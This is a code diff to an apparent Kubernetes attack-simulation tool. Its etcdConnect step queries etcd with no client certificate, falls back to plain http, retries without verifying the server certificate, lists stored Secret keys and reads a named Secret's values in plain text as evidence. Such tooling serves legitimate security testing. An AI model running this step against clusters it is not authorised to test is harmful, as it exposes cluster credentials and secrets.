@@ -1,7 +1,7 @@
 import { z } from 'zod';
 import { request } from 'node:https';
 import { request as httpRequest } from 'node:http';
-import type { AttackStepKind } from '../types.js';
+import type { AttackStepKind, Evidence } from '../types.js';
 import { UserError, ClusterUnreachableError } from '../../errors.js';
 
 const readSchema = z
@@ -51,10 +51,15 @@ const connectSchema = z
   .object({
     /** Node path of etcd's CA (trusted by the attacker's client: it only proves who etcd is). */
     caFile: z.string().startsWith('/').default('/etc/kubernetes/pki/etcd/ca.crt'),
+    /** A Secret the attacker then reads through the same connection: its values found in what etcd hands over. */
+    read: z
+      .object({ secret: z.object({ namespace: z.string(), name: z.string() }).strict() })
+      .strict()
+      .optional(),
   })
   .strict();
 
-type Answer = { ok: true; status: number; body: string } | { ok: false; why: string; code?: string };
+type Answer = { ok: true; status: number; body: string; url: string } | { ok: false; why: string; code?: string };
 
 function post(url: string, ca: string | undefined, path: string, body: string): Promise<Answer> {
   return new Promise((resolve) => {
@@ -65,7 +70,7 @@ function post(url: string, ca: string | undefined, path: string, body: string): 
       (res) => {
         const chunks: Buffer[] = [];
         res.on('data', (c: Buffer) => chunks.push(c));
-        res.on('end', () => resolve({ ok: true, status: res.statusCode ?? 0, body: Buffer.concat(chunks).toString('utf8') }));
+        res.on('end', () => resolve({ ok: true, status: res.statusCode ?? 0, body: Buffer.concat(chunks).toString('utf8'), url }));
         res.on('error', (e: any) => resolve({ ok: false, why: e.message, code: e.code }));
       },
     );
@@ -94,17 +99,44 @@ export const etcdConnect: AttackStepKind<z.infer<typeof connectSchema>> = {
     // etcd that does not speak TLS at all: the attacker just uses http://.
     if (!a.ok && /WRONG_VERSION_NUMBER|wrong version number|PACKET_LENGTH_TOO_LONG/i.test(`${a.code} ${a.why}`))
       a = await post(url.replace(/^https:/, 'http:'), undefined, '/v3/kv/range', range);
+    // A server certificate the attacker's client cannot verify stops no attacker (curl -k): try again without checking it.
+    if (!a.ok && /CERT|SELF_SIGNED|UNABLE_TO_VERIFY|ALTNAME/.test(a.code ?? '')) a = await post(url, undefined, '/v3/kv/range', range);
     if (!a.ok) {
       if (a.code === 'ECONNREFUSED' || a.code === 'ETIMEDOUT') throw new ClusterUnreachableError(`etcd at ${url}: ${a.why}`);
-      return { succeeded: false, message: `etcd at ${url} ended the TLS handshake: ${a.why.split('\n')[0]} — it wants a client certificate signed by its CA` };
+      const alert = /(?:tlsv13|sslv3|tlsv1) alert ([a-z ]+)/i.exec(a.why)?.[1];
+      return {
+        succeeded: false,
+        message: `etcd at ${url} ended the TLS handshake (${alert ? `TLS alert: ${alert}` : a.why.split('\n')[0]}) — it wants a client certificate signed by its CA`,
+      };
     }
     if (a.status !== 200) return { succeeded: false, message: `etcd at ${url} answered POST /v3/kv/range with HTTP ${a.status}` };
     const keys: string[] = (JSON.parse(a.body).kvs ?? []).map((kv: any) => Buffer.from(kv.key, 'base64').toString());
     const secrets = keys.filter((k) => k.startsWith('/registry/secrets/'));
+    const evidence: Evidence[] = [{ label: 'Secret keys', value: `${secrets.length} (${secrets.slice(0, 3).join(', ')}${secrets.length > 3 ? ', …' : ''})` }];
+    let also = '';
+    if (p.read) {
+      // The same connection, one key: the Secret as etcd stores it, and its values looked for in it.
+      const { namespace, name } = p.read.secret;
+      const key = `/registry/secrets/${namespace}/${name}`;
+      const one = await post(a.url, ca, '/v3/kv/range', JSON.stringify({ key: b64(key) }));
+      const kv = one.ok && one.status === 200 ? (JSON.parse(one.body).kvs ?? [])[0] : undefined;
+      const raw = kv?.value ? Buffer.from(kv.value, 'base64') : undefined;
+      const s: any = await ctx.cluster.read({ apiVersion: 'v1', kind: 'Secret', metadata: { name, namespace } });
+      const values = Object.entries<string>(s?.data ?? {})
+        .map(([k, v]) => [k, Buffer.from(v, 'base64')] as const)
+        .filter(([, v]) => v.length >= 4);
+      const found = raw ? values.filter(([, v]) => raw.includes(v)) : [];
+      evidence.unshift(...found.map(([k, v]) => ({ label: `${key} ${k}`, value: v.toString('utf8'), secret: true })));
+      also = raw
+        ? found.length
+          ? `; ${key}: ${found.length} of ${values.length} values in plain text`
+          : `; ${key} came back, but none of its values in plain text`
+        : `; ${key} did not come back`;
+    }
     return {
       succeeded: true,
-      message: `etcd at ${url} answered a client with no certificate: ${keys.length} keys under /registry/`,
-      evidence: [{ label: 'Secret keys', value: `${secrets.length} (${secrets.slice(0, 3).join(', ')}${secrets.length > 3 ? ', …' : ''})` }],
+      message: `etcd at ${a.url} answered a client with no certificate: ${keys.length} keys under /registry/${also}`,
+      evidence,
     };
   },
 };
